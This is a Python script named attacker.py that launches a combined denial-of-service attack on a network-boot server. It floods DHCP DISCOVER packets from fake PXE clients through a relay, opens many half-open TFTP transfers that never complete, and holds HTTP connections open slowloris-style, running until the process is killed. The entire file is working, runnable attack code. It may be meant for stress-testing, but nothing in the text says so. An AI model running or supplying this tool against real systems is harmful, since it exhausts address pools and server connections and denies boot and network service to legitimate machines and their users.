"""Strangers in one process: half-open TFTP transfers, slow HTTP clients, DHCP of machines that do not exist.

attacker.py HEAD RELAY ADDRESS,... HALF_OPEN SLOW; it says `all at once` when everything is under way, and goes on.
"""

from __future__ import annotations

import asyncio
import random
import resource
import socket
import sys
from contextlib import suppress

_HTTP = 8080
_FLOOD_PAUSE = 0.01
_FLOOD_BATCH = 20
_COOKIE = bytes.fromhex("63825363")


def discover(relay: str) -> bytes:
    """A DISCOVER of a boot ROM that nobody has, through a relay."""
    mac = b"\x52" + random.randbytes(5)
    head = bytes((1, 1, 6, 1)) + random.randbytes(4) + bytes(16) + socket.inet_aton(relay)
    options = b"\x35\x01\x01\x3c\x20PXEClient:Arch:00000:UNDI:002001\x5d\x02\0\0\xff"
    return head + mac.ljust(16, b"\0") + bytes(192) + _COOKIE + options


async def flood(head: str, relay: str) -> None:
    """Ask for addresses without an end."""
    opened = socket.socket(socket.AF_INET, socket.SOCK_DGRAM | socket.SOCK_NONBLOCK)
    opened.bind((relay, 0))
    while True:
        for _ in range(_FLOOD_BATCH):
            with suppress(OSError):
                opened.sendto(discover(relay), (head, 67))
        await asyncio.sleep(_FLOOD_PAUSE)


def half_open(head: str, addresses: list[str], count: int) -> list[socket.socket]:
    """Begin transfers and say nothing any more."""
    request = b"\0\1undionly.kpxe\0octet\0tsize\x000\0blksize\x001456\0"
    sockets = []
    for number in range(count):
        opened = socket.socket(socket.AF_INET, socket.SOCK_DGRAM | socket.SOCK_NONBLOCK)
        opened.bind((addresses[number % len(addresses)], 0))
        opened.sendto(request, (head, 69))
        sockets.append(opened)
    return sockets


async def slow(head: str, address: str) -> None:
    """One header line a second, and never the last one; again when the server has enough of it."""
    while True:
        with suppress(OSError):
            _, writer = await asyncio.open_connection(head, _HTTP, local_addr=(address, 0))
            writer.write(b"GET /boot/52-54-00-00-00-01 HTTP/1.1\r\nHost: head\r\n")
            while not writer.transport.is_closing():
                writer.write(b"X: y\r\n")
                await asyncio.sleep(1)
        await asyncio.sleep(1)


async def main(head: str, relay: str, addresses: list[str], halves: int, slows: int) -> None:
    """Do all of it until somebody ends this process."""
    tasks = [asyncio.create_task(slow(head, addresses[each % len(addresses)])) for each in range(slows)]
    await asyncio.sleep(2)
    tasks.append(asyncio.create_task(flood(head, relay)))
    sockets = half_open(head, addresses, halves)
    print(f"all at once: {len(sockets)} transfers, {slows} slow clients", flush=True)
    await asyncio.gather(*tasks)


if __name__ == "__main__":
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    asyncio.run(main(sys.argv[1], sys.argv[2], sys.argv[3].split(","), int(sys.argv[4]), int(sys.argv[5])))
